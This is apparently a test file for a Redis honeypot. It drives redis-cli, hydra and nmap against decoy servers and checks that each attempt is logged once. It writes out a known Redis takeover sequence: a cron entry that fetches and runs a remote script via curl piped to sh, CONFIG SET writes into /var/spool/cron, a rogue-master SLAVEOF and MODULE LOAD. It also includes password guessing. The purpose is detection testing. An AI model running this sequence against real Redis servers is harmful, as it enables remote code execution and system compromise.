/** Stock clients, a guesser and scanners at the Redis decoys: what each of them tried is told, and once. */
import { assert, assertEquals, assertMatch } from "@std/assert";
import { testWith } from "./support/machine.ts";
import { runToEnd } from "./support/process.ts";
import { Program } from "./support/program.ts";
import { assertOnce, watched } from "./support/watched.ts";
import type { WireEvent } from "./support/wire_event.ts";

const CONFIG = `service:
  listen: ["127.0.0.1:@service"]
decoys:
  - { kind: redis, name: redisopen, listen: ["127.0.0.1:@redisopen"] }
  - { kind: redis, name: redislocked, password: s3cret, listen: ["127.0.0.1:@redislocked"] }
`;
/** A cron table as worms leave it. */
const CRON = "\n\n*/2 * * * * curl -fsSL http://198.51.100.9/b.sh | sh\n\n";

/** What redis-cli says to commands, one after the other. */
async function cli(port: number, input: string, ...args: string[]): Promise<string> {
  const { stdout, stderr } = await runToEnd("redis-cli", ["-p", String(port), ...args], {
    stdin: input,
  });
  return stdout + stderr;
}

async function openServer(port: number): Promise<void> {
  assertEquals(
    await cli(port, 'SET greeting "hello there"\nGET greeting\nTYPE user:next_id\n'),
    [
      "OK",
      "hello there",
      "string",
      "",
    ].join("\n"),
  );
  assertMatch(await cli(port, "INFO server\n"), /redis_version:7\.0\.15/);
  assertEquals(
    await cli(port, "HGETALL h\nHSET h a 1\nHGETALL h\n", "-3", "--json"),
    '{}\n1\n{"a":"1"}\n',
  );
  const scanned = await cli(port, "", "--scan", "--pattern", "session:*");
  assert(scanned.trim().split("\n").length >= 5, scanned);
  const attack = [
    "FLUSHALL",
    `SET x ${JSON.stringify(CRON)}`,
    "CONFIG SET dir /var/spool/cron/",
    "CONFIG SET dbfilename root",
    "SAVE",
    "SLAVEOF 198.51.100.9 6379",
    "MODULE LOAD /tmp/exp.so",
    "SLAVEOF NO ONE",
  ];
  const said = await cli(port, attack.join("\n") + "\n");
  const lines = said.split("\n").filter((line) => line !== "");
  assertEquals(lines.map((line) => line.split(" ")[0]), [
    ...["OK", "OK", "ERR", "ERR", "OK", "OK", "ERR", "OK"],
  ]);
  const { stdout } = await runToEnd("redis-benchmark", [
    ...["-p", String(port), "-n", "500", "-c", "5", "-q", "-t", "ping,set,lpush,lrange_100,mset"],
  ]);
  for (const name of ["PING_MBULK", "SET", "LPUSH", "LRANGE_100", "MSET"]) {
    assertMatch(stdout, new RegExp(`${name}.*requests per second`));
  }
}

async function lockedServer(port: number, folder: string): Promise<string[]> {
  assertMatch(await cli(port, "PING\n"), /^NOAUTH Authentication required\./);
  assertMatch(await cli(port, "PING\n", "-a", "wonderland"), /WRONGPASS invalid username-password/);
  assertMatch(await cli(port, "PING\n", "--user", "bob", "-a", "builder"), /WRONGPASS/);
  assertMatch(await cli(port, "PING\n", "-a", "s3cret"), /^PONG/m);
  const words = ["123456", "foobared", "hunter 2"];
  await Deno.writeTextFile(`${folder}/words`, words.join("\n") + "\n");
  const hydra = ["-I", "-P", "words", "-t", "2", `redis://127.0.0.1:${port}`];
  const { stdout } = await runToEnd("hydra", hydra, { cwd: folder, withinMs: 60_000 });
  assertMatch(stdout, /0 valid password/);
  return ["wonderland", "builder", "s3cret", ...words];
}

async function scan(open: number, locked: number): Promise<void> {
  const args = [
    "-n",
    "-Pn",
    "-sV",
    "--script",
    "redis-info",
    "-p",
    `${open},${locked}`,
    "127.0.0.1",
  ];
  const { stdout } = await runToEnd("nmap", args, { withinMs: 100_000 });
  const verdicts = stdout.split("\n").filter((line) => /^\d+\/tcp/.test(line))
    .map((line) => line.replace(/\s+/g, " ").trim());
  assertEquals(
    verdicts.sort(),
    [
      `${open}/tcp open redis Redis key-value store 7.0.15 (64 bits)`,
      `${locked}/tcp open redis Redis key-value store`,
    ].sort(),
  );
  assertMatch(stdout, /Operating System: Linux 6\.1\.0-\d+-amd64 x86_64/);
  assertMatch(stdout, /Role: master/);
}

testWith(
  "redis-cli, redis-benchmark, hydra and nmap are answered as by Redis 7.0.15, and told once",
  { programs: ["redis-cli", "redis-benchmark", "hydra", "nmap"] },
  async () => {
    let passwords: string[] = [];
    const events = await watched(() => Program.source(CONFIG), async ({ program }) => {
      const { redisopen, redislocked } = program.ports;
      [passwords] = await Promise.all([
        lockedServer(redislocked, program.folder),
        openServer(redisopen),
      ]);
      await scan(redisopen, redislocked);
    });
    const attempts = events.filter(({ event }) => event.action === "credential-attempt");
    assertEquals(
      attempts.map(({ duckblind }) => duckblind.credential.password).sort(),
      passwords.sort(),
    );
    assertEquals(attempts.filter(({ user }) => user?.name === "bob").length, 1);
    const isPayload = (name: string) => (event: WireEvent) =>
      event.event.action === "payload" && JSON.stringify(event).includes(`"${name}"`);
    const planted = assertOnce(events, "the cron table", isPayload("/var/spool/cron/root"));
    assertEquals(atob(planted.duckblind.payload.base64), CRON);
    const slave = assertOnce(
      events,
      "the rogue master",
      ({ process }) => process?.command_line === "SLAVEOF 198.51.100.9 6379",
    );
    assertEquals(slave.event.severity, 60);
  },
);
